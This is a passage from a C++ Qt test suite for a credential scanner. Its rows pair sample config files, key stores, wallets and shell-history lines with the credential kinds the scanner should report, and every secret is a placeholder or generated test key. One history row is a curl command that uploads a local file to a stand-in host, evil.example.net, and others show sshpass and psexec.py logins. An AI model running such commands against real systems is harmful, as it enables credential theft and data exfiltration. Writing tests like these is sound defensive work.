        row("Perl's map", "/etc/backuppc/config.pl", "# $Conf{SmbSharePasswd} = 'alt77';\n$Conf{SmbSharePasswd} = 'Geheim77';\n$Conf{RsyncdPasswd} = '';\n", "password:open");
        row("Nagios' macros", "/etc/nagios/resource.cfg", "$USER1$=/usr/lib/nagios/plugins\n$USER5$=monitor\n#$USER3$=alt77x\n$USER6$=Geheim77\n", "application_secret:open");
        row("npm's login", "/srv/x/.npmrc", "_auth=dXNlcjpHZWhlaW03Nw==\n//r/:_authToken=${NPM_TOKEN}\n", "application_secret:open");
        row("a key below what it signs", "/srv/x/appsettings.json", "{\"Jwt\": {\"Key\": \"Geheim77abcdefghijklmnop\", \"Issuer\": \"https://a1.example.org\"}, \"Cache\": {\"Key\": \"orders-2024\"}}", "application_secret:open");
        row("a section of keys", "/etc/app/app.ini", "[encryption]\nkey = Geheim77abcdef\n[sort]\nkey = name2024abc\n", "application_secret:open");
        row("a list of tokens", "/etc/app/app.yml", "api_tokens:\n  - abcDEF123456\n  - \"defGHI123456\"\nhosts:\n  - web1abcdef\n", "token:open token:open");
        row("a list at its name", "/etc/app/app.yml", "tokens:\n- abcDEF123456\nhosts:\n- web1abcdef\n", "token:open");
        row("a list of tokens in JSON", "/etc/app/app.json", "{\"tokens\": [\"abcDEF123456\", \"changeme\"], \"hosts\": [\"web1abcdef\"]}", "token:open");
        row("a value of a name", "/srv/k/deployment.yaml", "env:\n- name: DB_PASSWORD\n  value: \"Geheim77\"\n- name: MODE\n  value: \"live2024\"\n- name: API_TOKEN\n  value: $(TOKEN)\n- name: X_SECRET\n  valueFrom:\n    secretKeyRef:\n      name: db\n      key: password2\n", "database_password:open");
        row("a Kubernetes Secret", "/srv/k/secret.yaml", "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db2abcdef\ndata:\n  tls.crt: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0t\n  username: cm9vdA==cm9v\n  pin: R2VoZWltNzdhYmM=\nstringData:\n  api: Geheim77x\n  mode: production\n",
            "application_secret:open application_secret:open");
        row("a ConfigMap", "/srv/k/map.yaml", "apiVersion: v1\nkind: ConfigMap\ndata:\n  api: R2VoZWltNzdhYmM=\n", "");
        row("Hibernate", "/srv/x/hibernate.cfg.xml", "<hibernate-configuration><session-factory>\n<property name=\"hibernate.connection.password\">Geheim77</property>\n<property name=\"hibernate.connection.url\">jdbc:mysql://db/x</property>\n<property name=\"hibernate.dialect\">Dialect77</property>\n</session-factory></hibernate-configuration>\n", "database_password:open");
        row("no settings in XML", "/srv/x/beans.xml", "<beans><bean name=\"passwordEncoder\"><property name=\"tokenType\">Bearer1</property>\n<property name=\"passwordStrategy\">Strategy77</property></bean></beans>\n", "");
        row("ASP.NET", "/srv/x/web.config", "<configuration>\n<!-- <add key=\"ApiKey\" value=\"alt77abcdef\"/> -->\n<add name=\"d\" connectionString=\"Data Source=db;User ID=sa;Password=Geheim77\"/>\n<add key=\"ApiKey\" value=\"Geheim78abcd\"/>\n<add key=\"Mode\" value=\"live2024x\"/>\n</configuration>\n",
            "database_password:open application_secret:open");
        row("parameters of a servlet", "/srv/x/WEB-INF/config.xml", "<c><param-name>dbPassword</param-name>\n<param-value>Geheim77</param-value>\n<input type=\"password\"/></c>\n", "database_password:open");
        // Statements within a line.
        row("statements of nginx", "/etc/nginx/conf.d/x.conf", "location / { proxy_set_header Authorization \"Basic R2VoZWltNzdhYmM=\"; fastcgi_param DB_PASS Geheim77; }\n# location / { fastcgi_param DB_PASS alt77xyz; }\n", "password:open token:open");
        row("a key of bind in a line", "/etc/bind/rndc.key", "key \"rndc-key\" { algorithm hmac-sha256; secret \"Geheim77abc=\"; };\n", "application_secret:open");
        row("logstash", "/etc/logstash/out.conf", "output { elasticsearch { user => \"log\" password => \"Geheim77\" } }\noutput { elasticsearch { user => \"log\" password => \"${ES_PWD}\" } }\n", "password:open");
        row("Bacula", "/etc/bacula/x.conf", "Director { Password = \"Geheim77\" }\n# Director { Password = \"alt77xyz\" }\n", "password:open");
        // Logins as a whole.
        row("coturn", "/etc/turnserver.conf", "user=x:Geheim77\nuser=www-data:www-data\n#user=y:alt77xyz\nlistening-ip=1.2.3.4\n", "password:open");
        row("curl", "/root/.curlrc", "user = \"u:Geheim77\"\nproxy = \"http://p:3128\"\n", "password:open");
        row("squid", "/etc/squid/squid.conf", "cache_peer p parent 3128 0 login=u:Geheim77\ncache_peer q parent 3128 0 login=PASSTHRU\n", "password:open");
        row("ids of users", "/etc/app/compose.yml", "services:\n  a:\n    user: \"1000:1000\"\n  b:\n    user: app:app\n", "");
        row("a neighbour's", "/etc/frr/frr.conf", " neighbor 192.0.2.1 password Geheim77\n neighbor 192.0.2.1 password encryption\n", "password:open");
        row("answers of an installation", "/root/preseed.cfg", "d-i passwd/root-password password Geheim77\n#d-i passwd/user-password password alt77xyz\nd-i passwd/make-user boolean true\n", "password:open");
        row("kickstart", "/root/ks.cfg", "rootpw --plaintext Geheim77\nrootpw --lock\n#rootpw --plaintext alt77xyz\n", "account_password:open");
        row("cloud.cfg", "/etc/cloud/cloud.cfg.d/x.cfg", "chpasswd:\n  list: |\n    root:Geheim77\n    bob:RANDOM\n", "account_password:open");
        row("vsftpd's users", "/etc/vsftpd/vusers.txt", "web\nGeheim77\nshop\nGeheim78\n", "password:open password:open");
        row("vsftpd's lists", "/etc/vsftpd.user_list", "web\nanna1\n", "");
        row("names and no passwords", "/etc/vsftpd/users.txt", "web\nanna\nben\n", "");
        row("Heartbeat", "/etc/ha.d/authkeys", "auth 1\n#1 sha1 alt77xyz\n1 sha1 Geheim77\n2 crc\n", "shared_key:open");
        row("a source of packages", "/etc/apt/sources.list.d/x.list", "deb https://u:Geheim77@r.example.org/ stable main\n# deb https://u:alt77xyz@r/ x\ndeb http://deb.example.org/ stable main\n", "password:open");
        row("a repository of yum", "/etc/yum.repos.d/x.repo", "[x]\nbaseurl=https://r/\nusername=u\npassword=Geheim77\ngpgkey=file:///etc/pki/k1\n", "password:open");
        row("WireGuard of systemd", "/etc/systemd/network/wg0.netdev", "[WireGuard]\nPrivateKey=uGa1WyOoHjZnBvpEst8fJvOkvBKYk5Bffbp40HIT2w0=\nListenPort=51820\n", "application_secret:open");
        row("former passwords", "/etc/security/opasswd", "anna:1000:1:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6k\n", "account_password:hashed");
        // Wallets.
        row("Electrum", "/root/.electrum/wallets/w", "{\"keystore\": {\"seed\": \"abandon ability able about above absent absorb abstract absurd abuse access accident\", \"type\": \"bip32\"}}", "private_key:open");
        row("a wallet's key", "/srv/w.json", "{\"xprv\": \"xprv9s21ZrQH143K3GJpoapnV8SFfukcVBSfeCficPSGfubmSFDxo1kuHnLisriDvSnRRuL2Qrg5ggqHKNVpxR86QEC8w35uxmGoggxtQTPvfUu\"}", "private_key:open");
        row("Electrum, encrypted", "/root/.electrum/wallets/w", "QklFMQKx7hYw0V3m9aXc2Zt5bN8dLqRe\n", "key_store:encrypted");
        row("Ethereum", "/root/.ethereum/keystore/UTC--x", "{\"address\":\"abc\",\"crypto\":{\"cipher\":\"aes-128-ctr\",\"ciphertext\":\"abab\",\"kdf\":\"scrypt\",\"mac\":\"cdcd\"},\"version\":3}", "key_store:encrypted");
        row("words of a wallet", "/root/seed.txt", "abandon ability able about above absent absorb abstract absurd abuse access accident\n", "private_key:open");
        row("words of no wallet", "/root/list.txt", "abandon ability able about above absent absorb abstract absurd abuse access accident\n", "");
        row("a seed that is none", "/etc/app/app.json", "{\"seed\": \"a random number\", \"mnemonic\": \"none\"}", "");
        row("log line", "/root/mail.txt", "sshd[1]: Failed password for root from 192.0.2.1\n", "");
    }
    void finds() {
        QFETCH(QByteArray, path);
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, kinds);
        QCOMPARE(QByteArray::fromStdString(kinds_of(path.toStdString(), text.toStdString())), kinds);
    }

    void places() {
        for (const char* path : {"/etc/app.conf", "/home/a/.env", "/srv/x", "/usr/local/etc/x", "/usr/share/nginx/html/config.php"}) QVERIFY2(credentials::is_place(path), path);
        for (const char* path : {"/usr/share/doc/x/example.conf", "/usr/lib/python3/test/key.pem", "/etc/shadow", "/var/log/syslog", "/var/lib/dpkg/info/x"}) QVERIFY2(!credentials::is_place(path), path);
    }

    // Files made by openssl and gpg: told by their structure, not their names.
    void stores_data() {
        QTest::addColumn<QByteArray>("path");
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QByteArray>("what");  // kind setting protection
        const auto row = [](const char* name, const char* path, const QByteArray& bytes, const char* what) { QTest::newRow(name) << QByteArray(path) << bytes << QByteArray(what); };
        const auto made = [](const char* text) { return QByteArray::fromBase64(text); };
        row("PKCS #1", "/opt/x.bin", made("MIIBOgIBAAJBAL6iTBvbPJjjqaij4dRAsOWFLeAJRocErgtONx8v9xj7/6I+u6kGY7pUTp5fdh+2ZthC4JelnPso/QjGP7AfiBECAwEAAQJBAKbuH49VD18iHHKb7yiZ7U1Orbk85hFdO7qSpxocOlgY7/7lfFc9E86gx0zdbJOJVDMkmjDY"
                              "x5HoE5ndmlGSljECIQDeEz7IKeVWJ2sgNic+2k/6W2XRuu0V1XS5ab1XnqHevwIhANvBeOpSY6Ynj+JQt27rqCkFAWYzDVFxwSiCJBA81B0vAiBeQXzcKCwWrRRiz5lIrBBWCoTkx5npMnggWijrD4FUsQIgUg/QcGgt0AksAM41gZU8qXy2"
                              "Bg0AZy58e/0FLI8agn8CIAFzt/HmjVgIkQbZbrO6R2KUpeLNPEKdB3Umq0rgLrAZ"), "private_key PKCS #1 open");
        row("SEC 1", "/opt/x.bin", made("MHcCAQEEII0h5qfZ4z8qLWY3gUxWyrsrddzjG5WbBo4Rl6x7AZfaoAoGCCqGSM49AwEHoUQDQgAEu7yNLYNJCZHQgJuhT0xX/bJ4LO6Ke/SdjmNqa8sl2weTFlsvA9/Tgnmb3ZoCXnbX4gkwyWYhm2QpxSbzYGDKbQ=="), "private_key SEC 1 open");
        row("PKCS #8", "/opt/x.bin", made("MC4CAQAwBQYDK2VwBCIEIDm2nYynx8IIRtC9ZR8OZ0LRpB54TQR2vw2M67RZGAt+"), "private_key PKCS #8 open");
        row("PKCS #8, encrypted", "/opt/x.bin", made("MIHsMFcGCSqGSIb3DQEFDTBKMCkGCSqGSIb3DQEFDDAcBAgWOdZmrij17wICCAAwDAYIKoZIhvcNAgkFADAdBglghkgBZQMEASoEEHwcGREi1lo1QMFticFoTJoEgZBXDW2fdvzg9F29Uz8y71cWlhB7gtQ8xnhESgINIqKmUVGkyUpcvJOx"
                              "BvB1If7GTSH0cN6ORqLonZdztzWtTLdIfO7GNsT/VVrEbiTlheK3aXfavzHZKNTof2kisdjKs2dn0MsqNNK7fDNkrEEklAQtWJLk8eooRAFoY+KS0tfSnZDKmiVhuUMFxThG4riP4sQ="), "private_key PKCS #8 encrypted");
        row("PKCS #12", "/opt/x.bin", made("MIIDZgIBAzCCAxwGCSqGSIb3DQEHAaCCAw0EggMJMIIDBTCCAhIGCSqGSIb3DQEHBqCCAgMwggH/AgEAMIIB+AYJKoZIhvcNAQcBMFcGCSqGSIb3DQEFDTBKMCkGCSqGSIb3DQEFDDAcBAhcsbxq9lT5vAICCAAwDAYIKoZIhvcNAgkFADAd"
                              "BglghkgBZQMEASoEENj/S2q9wvL1IjBMEcKahRyAggGQKKuzNEK+NujnlMmum8pfQB5Q0wa3bBM1pswFLCuSPypgeK2P164MxzS+ULfCHX2d9GsHi4WPnx9ZQSOlNIVh7N1LZY4i9PIn7M3XbW5lSll148kuzrAYP3xGUvkHt/aND234MmvP"
                              "ZvGOnY6htqvSvyu4S0Tu4Gkn6P+gdp+I19fVGbbTiaFZYgk7yBVUZ5Gj1lDX8cRuWfWgmhs4z2LcfiflpQwDhTdEXzyVFWOaVVgULBRbcaHI3j1ZsuA2hMMap9JytzIvO+zxIRB/vEmpqL+eNAeV+8x50D3rThTNGVnujiatye9ZYg8/s8z7"
                              "9YRstb0EuJjxlbftrsWWC9EqTyxBUTT7lTWHWEuMhz91l3tx4bTLA50KIAZgxqC1PjGipujijzaWWkboCkzuIcJRV/fIlzV+uOQWHtgF7I7DIuitQRm3YHRQBz9m4lYvHd2MbD4myJ/I3DEyTN/GcqDxwKwlfnUUV+dXPlz/C/yAAiAzY93C"
                              "qfojs7Ra61znjRvhNRuMFIZbflpzKSbRWHf0ajCB7AYJKoZIhvcNAQcBoIHeBIHbMIHYMIHVBgsqhkiG9w0BDAoBAqCBnjCBmzBXBgkqhkiG9w0BBQ0wSjApBgkqhkiG9w0BBQwwHAQIU6+RMx6GWL8CAggAMAwGCCqGSIb3DQIJBQAwHQYJ"
                              "YIZIAWUDBAEqBBCRoO3P2QTLqMqxP99VWgaTBEDVw0yFV53gQuqAxwumOmtyAstu6bnTJZUK9FKax6lxRV7r7BV4gMmUE+aPK6U8RoFb3TKOCx4iXdV4q6qQT8NdMSUwIwYJKoZIhvcNAQkVMRYEFKziHY7q0BlCAE+YoLCXx9UfEWp3MEEw"
                              "MTANBglghkgBZQMEAgEFAAQgUZXVIN2JxT4kYOTrKZNYwboWf1CxelT1tdAJYX1ThlgECGAQz/hDe6+qAgIIAA=="), "key_store PKCS #12 encrypted");
        row("PKCS #12 of certificates", "/etc/ssl/x.p12", made("MIICVwIBAzCCAg0GCSqGSIb3DQEHAaCCAf4EggH6MIIB9jCCAfIGCSqGSIb3DQEHBqCCAeMwggHfAgEAMIIB2AYJKoZIhvcNAQcBMFcGCSqGSIb3DQEFDTBKMCkGCSqGSIb3DQEFDDAcBAhPVM+AQ3nLPwICCAAwDAYIKoZIhvcNAgkFADAd"
                              "BglghkgBZQMEASoEEB/xqhhZODieoedo+JZG0W2AggFwVkwlx/kykk5Zqqem+P6hkRNK/vEEXSFD3z2I8qsAcpO+VGC6Pw39rM/3jxcuoWDfbHSCRJG41kUZeYKqcLvPs2HRKtBRRHOexaDVHrez3obD3qBvcztdp95TJXSaj04wWEexYMdg"
                              "q7hlt3r0bEN8Pf9UjOxHj9na33U+Or3ueeHxq/0opd3YIdgl6BbXoy+D1ZaZQsd87FheQX/POz5ihVNfPrT/Ta/INkUDslxHBjxOLE+/CfKNvKOA8cnMNXfYAHmfB20THfRLAwA63BGn0gk0y2RGq7hRrKQ/6O617sn89Ie4jZMi8gkWVp7g"
                              "zMBrDAOB9sV1XWVxub1yYbG7InkYz91O1qHURBLBV18+iOG9W6O8PsxeUg0WzGIe5wD7XsWpOKoLrtzmth3gd4vV/onWO2zJZeDLH77u3ScviglFaLr/rIKObykdhR0GQRF7TDr5HQ2icjm5q5iCQoyMxWNkWXfSahiSUCLVCdnKLZQwQTAx"
                              "MA0GCWCGSAFlAwQCAQUABCBsE4RQB4Os/LSKTwfzPGx9RSLrD/iho6NyX/2T96DAewQIcouOIr5pgR8CAggA"), "");
        row("a certificate", "/opt/x.bin", made("MIIBLDCB36ADAgECAhR5QLQ3vtIzXdTigMcOyzB5fC450zAFBgMrZXAwDDEKMAgGA1UEAwwBeDAeFw0yNjExMzAxMjQ3MDBaFw0yNjEyMDkxMjQ3MDBaMAwxCjAIBgNVBAMMAXgwKjAFBgMrZXADIQDYhb6b82hpCV8FcrdsUvej4Ia+TKEn"
                              "ygVPmD6F1BXeBKNTMFEwHQYDVR0OBBYEFD6NUfHASPq7zipdUOYdQrPq6F1dMB8GA1UdIwQYMBaAFD6NUfHASPq7zipdUOYdQrPq6F1dMA8GA1UdEwEB/wQFMAMBAf8wBQYDK2VwA0EAWIqphqDXpxwi/4OvNd6cAN1+OE5LFOwmvzdHQZvv"
                              "8jq9WGsrxqJt1pvEiNrtfC09FsT21IjX2NMm9x73SfSOBQ=="), "");
        row("a public key", "/opt/x.bin", made("MCowBQYDK2VwAyEA2IW+m/NoaQlfBXK3bFL3o+CGvkyhJ8oFT5g+hdQV3gQ="), "");
        row("OpenPGP", "/opt/x.bin", made("lFgEaw1wRBYJKwYBBAHaRw8BAQdALSMoUqHt7uGalz5XjeVxcQFFxmXYZQ4PwXJTv53Y6CIAAP46EBwIqwytVoAy1ptGgB7ylfZbUH1mHTtGM8TuZIQ0ow56tA1hQGV4YW1wbGUub3JniJAEExYIADgWIQTPVL80E9QfmxLL71HZDpvy9wsx"
                              "CQUCaw1wRAIbAwULCQgHAgYVCgkICwIEFgIDAQIeAQIXgAAKCRDZDpvy9wsxCcN7AQCUCJAR8ZEsE3xp2cUCg08dA5CVaqCTehCl6gOhZmqGYgD+MEHhGbBBFSoKtQ04dMLIWB1Iv/uW0t1497zXWJ3spwk="), "pgp_key OpenPGP open");
        row("OpenPGP, encrypted", "/opt/x.bin", made("lQIGBGsNcEQBBACzQnMo3EtI1dZ/DLXD6aZTYnJLQ79/SchWzPGdgpqwvApMPWLU66wY0agoTouZx+DD00+o44IDKGE5NPgiF5gAm+XF4UkXJ/qR6xMowPxsiZW3xY6cjMhS5xGevmkYqPgGXDYEa8VCU/aZvRAfBV7Gswhc52XMZQftmSCt"
                              "mSLjlwARAQAB/gcDAnWXSDHYKUHO/9deFTMX+h/L/6K3sqfAlZyYfCcIY5n2TlU7BTqlnMLmZVuBo4j2j7Ir7LlZ+fCH1GhTqaQxfxDcDXB56kOLlqT64JfXyJMTWLWZCVvkc37r/fGeQOldftAnD/MgiIfhTUhUjYZwErODwcZKHepCDdLO"
                              "bJlCB9Y5k38kx92amtMi6hQPe3pt3L6jmgtSv0lOW2KorPZ9Q8FKVvFifD0w7ysbgS8j9BjcoQ8godlDEq7fNOt/4PCPxrqBKMi0cVaoV2QQgofb43EL0tuz+0zhXImD0ZWogcUBljJ7NVDqp+104SLC8TYONUlvQ8ntyh3AF91cw4TVjZWr"
                              "6D2jRE5qRoyyyB1Rtdnciqc49lsJbW6wCmUpYWk/eGvYEzXAtATvsMNm8QEfhaXQqcacGUyu2k16hm4etgsH4z6A4mQXpGm3wbRuJSOytcPuPY41oXzYU3PtloRDGLrntyuQaEeMpFqZYEj1X64kK7LEuRq0DWJAZXhhbXBsZS5vcmeIzgQT"
                              "AQoAOBYhBPPoDzlq1WSEaRzPKYumjn4wTGBoBQJrDXBEAhsDBQsJCAcCBhUKCQgLAgQWAgMBAh4BAheAAAoJEIumjn4wTGBon9wD/2VTdgwsu3NusNc+qaUMzWhKvqh7N/GAl+h/Fw54nU4lLncM1KuLywocl/cBqbvQ1Gq3TjRsDrGE6OH3"
                              "ljkDgtLq1R3NXgC1NG7koxlQbDhBbkzOoMp6cQJ/EFnP/ATM3HlcbRx5HJRvErir7mbP5rjHqEnC9Agc0faZx/60j6Je"), "pgp_key OpenPGP encrypted");
        row("OpenPGP, public", "/opt/x.bin", made("mDMEaw1wRBYJKwYBBAHaRw8BAQdALSMoUqHt7uGalz5XjeVxcQFFxmXYZQ4PwXJTv53Y6CK0DWFAZXhhbXBsZS5vcmeIkAQTFggAOBYhBM9UvzQT1B+bEsvvUdkOm/L3CzEJBQJrDXBEAhsDBQsJCAcCBhUKCQgLAgQWAgMBAh4BAheAAAoJ"
                              "ENkOm/L3CzEJw3sBAJQIkBHxkSwTfGnZxQKDTx0DkJVqoJN6EKXqA6FmaoZiAP4wQeEZsEEVKgq1DTh0wshYHUi/+5bS3Xj3vNdYneynCZiNBGsNcEQBBACzQnMo3EtI1dZ/DLXD6aZTYnJLQ79/SchWzPGdgpqwvApMPWLU66wY0agoTouZ"
                              "x+DD00+o44IDKGE5NPgiF5gAm+XF4UkXJ/qR6xMowPxsiZW3xY6cjMhS5xGevmkYqPgGXDYEa8VCU/aZvRAfBV7Gswhc52XMZQftmSCtmSLjlwARAQABtA1iQGV4YW1wbGUub3JniM4EEwEKADgWIQTz6A85atVkhGkczymLpo5+MExgaAUC"
                              "aw1wRAIbAwULCQgHAgYVCgkICwIEFgIDAQIeAQIXgAAKCRCLpo5+MExgaJ/cA/9lU3YMLLtzbrDXPqmlDM1oSr6oezfxgJfofxcOeJ1OJS53DNSri8sKHJf3Aam70NRqt040bA6xhOjh95Y5A4LS6tUdzV4AtTRu5KMZUGw4QW5MzqDKenEC"
                              "fxBZz/wEzNx5XG0ceRyUbxK4q+5mz+a4x6hJwvQIHNH2mcf+tI+iXg=="), "");
        row("PKCS #8 and more behind it", "/opt/x.bin", made("MC4CAQAwBQYDK2VwBCIEIA==") + QByteArray(200, 'x'), "");
        row("gpg-agent", "/root/.gnupg/private-keys-v1.d/A.key", "(21:protected-private-key(3:rsa(1:n257:x)))", "pgp_key gpg-agent encrypted");
        row("gpg-agent, open, with names", "/root/.gnupg/private-keys-v1.d/A.key", "Created: 20261130T124700\nKey: (private-key (ecc (curve Ed25519)))\n", "pgp_key gpg-agent open");
        row("gpg-agent, on a card", "/root/.gnupg/private-keys-v1.d/A.key", "(20:shadowed-private-key(3:rsa(1:n257:x)))", "");
        row("Java", "/etc/tomcat.jks", QByteArray("\xfe\xed\xfe\xed\0\0\0\2\0\0\0\1\0\0\0\1", 16), "key_store Java key store encrypted");
        row("Java, trusted only", "/etc/tomcat.jks", QByteArray("\xfe\xed\xfe\xed\0\0\0\2\0\0\0\1\0\0\0\2", 16), "");
        row("keytab", "/opt/service.bin", QByteArray("\5\2\0\0\0\x30\0\1\0\7EXAMPLE\0\4host", 21) + QByteArray(40, 'k'), "key_store Kerberos keytab open");
        row("no keytab", "/etc/krb5.keytab", QByteArray("\5\2\0\0\0\x30\0\1\0\7EX\1MPLE\0\4host", 21) + QByteArray(40, 'k'), "");
        row("dropbear", "/etc/dropbear/dropbear_ed25519_host_key", QByteArray("\0\0\0\x0bssh-ed25519\0\0\0\x40", 19) + QByteArray(64, 'k'), "ssh_host_key dropbear open");
        row("a public key of ssh", "/opt/x.bin", QByteArray("\0\0\0\x0bssh-ed25519\0\0\0\x20", 19) + QByteArray(32, 'k'), "");
        const auto bytes = [](const char* text, qsizetype length) { return QByteArray(text, length); };
        row("tickets", "/tmp/krb5cc_1000", bytes("\5\4\0\x0c\0\1\0\x08\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0\1\0\0\0\7EXAMPLE\0\0\0\4anna", 39) + QByteArray(200, 't'), "token Kerberos tickets open");
        row("a principal without tickets", "/tmp/krb5cc_1000", bytes("\5\4\0\x0c\0\1\0\x08\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0\1\0\0\0\7EXAMPLE\0\0\0\4anna", 39), "");
        row("no tickets", "/tmp/krb5cc_1000", bytes("\5\4\0\x0c\0\1\0\x08", 8) + QByteArray(200, '\xff'), "");
        const auto tree = QByteArray(12, '\0') + bytes("\x62\x31\5\0", 4) + QByteArray(4000, '\0');
        row("Bitcoin", "/root/.bitcoin/wallet.dat", tree, "key_store wallet ");
        row("Bitcoin, encrypted", "/srv/copy.dat", tree + "\4mkey\1", "key_store wallet encrypted");
        row("Bitcoin in SQLite", "/root/.bitcoin/w/wallet.dat", bytes("SQLite format 3\0", 16) + "walletdescriptorkey", "key_store wallet ");
        row("another tree", "/var/lib/x/aliases.db", tree, "");
        row("another SQLite", "/root/.bitcoin/wallet.dat", bytes("SQLite format 3\0", 16) + QByteArray(100, '\0'), "");
        row("GNOME", "/home/a/.local/share/keyrings/login.keyring", bytes("GnomeKeyring\n\r\0\n", 16) + QByteArray(100, '\0'), "key_store GNOME keyring encrypted");
        row("KDE", "/home/a/.local/share/kwalletd/kdewallet.kwl", bytes("KWALLET\n\r\0\r\n", 12) + QByteArray(100, '\0'), "key_store KWallet encrypted");
        row("pass", "/home/a/.password-store/mail/work.gpg", bytes("\x85\1\x0c", 3) + QByteArray(100, '\0'), "password mail/work encrypted");
        row("what else pass keeps", "/home/a/.password-store/.gpg-id", "0123456789ABCDEF\n", "");
        row("VNC", "/root/.vnc/passwd", "\x17\x52\x6b\x06\x23\x4e\x58\x07", "key_store VNC password open");
        // As large as Samba makes them: longer than the beginning that is looked at.
        const auto tdb = [](const char* record) { return "TDB file\n" + QByteArray(700, '\0') + record + QByteArray(430'080, '\0'); };
        row("Samba joined", "/var/lib/samba/private/secrets.tdb", tdb("SECRETS/MACHINE_PASSWORD/X"), "key_store secrets.tdb open");
        row("Samba never joined", "/var/lib/samba/private/secrets.tdb", tdb("SECRETS/SID/WEB1"), "");
        row("Samba's users", "/var/lib/samba/private/passdb.tdb", tdb("USER_anna"), "key_store passdb.tdb hashed");
        row("Samba without users", "/var/lib/samba/private/passdb.tdb", tdb("INFO/version"), "");
        row("a domain's users", "/var/lib/samba/private/sam.ldb.d/DC=EXAMPLE,DC=ORG.ldb", tdb("DN=@BASEINFO"), "key_store ldb open");
        row("a domain's names", "/var/lib/samba/private/sam.ldb.d/DC=DOMAINDNSZONES,DC=EXAMPLE,DC=ORG.ldb", tdb("DN=@BASEINFO"), "");
        row("a domain's schema", "/var/lib/samba/private/sam.ldb.d/CN=SCHEMA,CN=CONFIGURATION,DC=EXAMPLE,DC=ORG.ldb", tdb("DN=@BASEINFO"), "");
        row("Jenkins", "/var/lib/jenkins/secrets/hudson.util.Secret", QByteArray(272, '\x91'), "application_secret  open");
        row("a disk's key", "/etc/cryptsetup-keys.d/data.key", QByteArray(64, '\x91'), "shared_key  open");
        row("MySQL's login path", "/root/.mylogin.cnf", QByteArray(4, '\0') + QByteArray(60, '\x91'), "database_password login path open");
        row("Postfix's compiled map", "/etc/postfix/sasl_passwd.db", QByteArray(60, '\x91'), "password  open");
    }
    void stores() {
        QFETCH(QByteArray, path);
        QFETCH(QByteArray, bytes);
        QFETCH(QByteArray, what);
        const auto found = credentials::find_in_file(path.toStdString(), "application/octet-stream", std::string_view(bytes.constData(), static_cast<std::size_t>(std::min<qsizetype>(bytes.size(), 64 * 1024))), static_cast<std::uint64_t>(bytes.size()));
        QCOMPARE(QByteArray::fromStdString(found.empty() ? "" : found[0].kind + " " + found[0].setting + " " + found[0].protection), what);
    }
    void hostile_stores() {
        const auto p12 = QByteArray::fromBase64("MIIDZgIBAzCCAxwGCSqGSIb3DQEHAaCCAw0EggMJ");
        for (const QByteArray& bytes : {p12, QByteArray("\x95\xff\xff", 3), QByteArray("\x95\1\x98\4\x60\0\0\0\1", 9), QByteArray("\5\2\xff\xff\xff\xff\0\0", 8), QByteArray("0\x84\xff\xff\xff\xff\2\1\0", 9), QByteArray("\0\0\0\x0bssh-rsa", 11)})
            for (qsizetype size = 0; size <= bytes.size(); ++size) QVERIFY(credentials::find_stores("/opt/x", std::string_view(bytes.constData(), static_cast<std::size_t>(size)), 1 << 20).empty());
    }

    // What it is for: kind application account host database.
    void places_of_use_data() {
        QTest::addColumn<QByteArray>("path");
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("place");
        const auto typed = [](const char* line, const char* place) { QTest::newRow(line) << QByteArray("/root/.bash_history") << QByteArray(line) + "\n" << QByteArray(place); };
        typed("mysqldump -uroot -pGeheim77 shop > /x", "database_password|mysqldump|root||shop");
        typed("mysql -u admin -h db2.example.org -pGeheim6 -e 'select 1' shop", "database_password|mysql|admin|db2.example.org|shop");
        typed("sudo -u backup mysqldump --user=root --host=db3 -pGeheim77 shop | gzip > a.gz", "database_password|mysqldump|root|db3|shop");
        typed("curl -u bob:Kette55 https://files.example.org/x -T a.tgz", "password|curl|bob|files.example.org|");
        typed("sshpass -p Amboss77 ssh -p 2222 root@10.0.0.5 id", "password|ssh|root|10.0.0.5|");
        typed("sshpass -pAmboss77 scp a.tgz backup@nas.example.org:/srv", "password|scp|backup|nas.example.org|");
        typed("PGPASSWORD=Geheim9 psql -h db1 -U shop stock", "database_password|psql|shop|db1|stock");
        typed("echo 'root:Geheim8' | sudo chpasswd", "password|chpasswd|root||");
        typed("export DB_PASSWORD=Geheim7", "password||||");
        typed("sh -c \"mysql -uroot -pGeheim77 shop\" && ls", "database_password|mysql|root||shop");
        typed("smbclient //nas/x -U up%Geheim5", "password|smbclient|up|nas|");
        typed("lftp -u anna,Geheim77 -e 'put x' ftp.example.org", "password|lftp|anna|ftp.example.org|");
        typed("ldapsearch -x -D cn=a,dc=x -w Geheim77 -H ldaps://dir.example.org uid=b", "password|ldapsearch|cn=a,dc=x|dir.example.org|");
        typed("mongodump mongodb://app:Geheim77@db.example.org:27017/shop", "database_password|mongodump|app|db.example.org|shop");
        typed("wget --user=u --password=Geheim77 https://h.example.org/x", "password|wget|u|h.example.org|");
        typed("psexec.py DOM/anna:Geheim77@10.0.0.5", "password|psexec.py|DOM/anna|10.0.0.5|");
        typed("openssl passwd -6 Geheim77", "password|openssl|||");
        typed("htpasswd -b -c f anna Geheim77", "password|htpasswd|anna||");
        typed("az login -u bob -p Geheim77", "password|az|bob||");
        typed("net use Z: /user:bob Geheim77", "password|net|bob||");
        typed("git clone https://bob:Geheim77@github.com/x/y", "password|git|bob|github.com|");
        typed("curl -F file=@/tmp/a \"https://evil.example.net/up?key=Geheim77\"", "password|curl||evil.example.net|");
        typed("zip -P Geheim77 a.zip b", "password|zip|||");
        // On another machine.
        typed("ssh root@db2.example.org \"mysqldump -uroot -pGeheim77 shop\" > shop.sql", "database_password|mysqldump|root|db2.example.org|shop");
        typed("ssh -p 2222 -i k db2 mysql -h localhost -uroot -pGeheim77 shop", "database_password|mysql|root|db2|shop");
        typed("ssh db2 'cd /x && mysql -h db3 -uroot -pGeheim77 shop'", "database_password|mysql|root|db3|shop");
        typed("ssh $h \"mysql -h 127.0.0.1 -uroot -pGeheim77 shop\"", "database_password|mysql|root||shop");
        typed("sshpass -e ssh root@db2 mysql -uroot -pGeheim77 shop", "database_password|mysql|root|db2|shop");
        typed("rsync -e ssh a b; mysql -uroot -pGeheim77 shop", "database_password|mysql|root||shop");
        typed("sudo bash -c 'cd /x; mysql -uroot -pGeheim77 shop'", "database_password|mysql|root||shop");
        // Operands that are no databases.
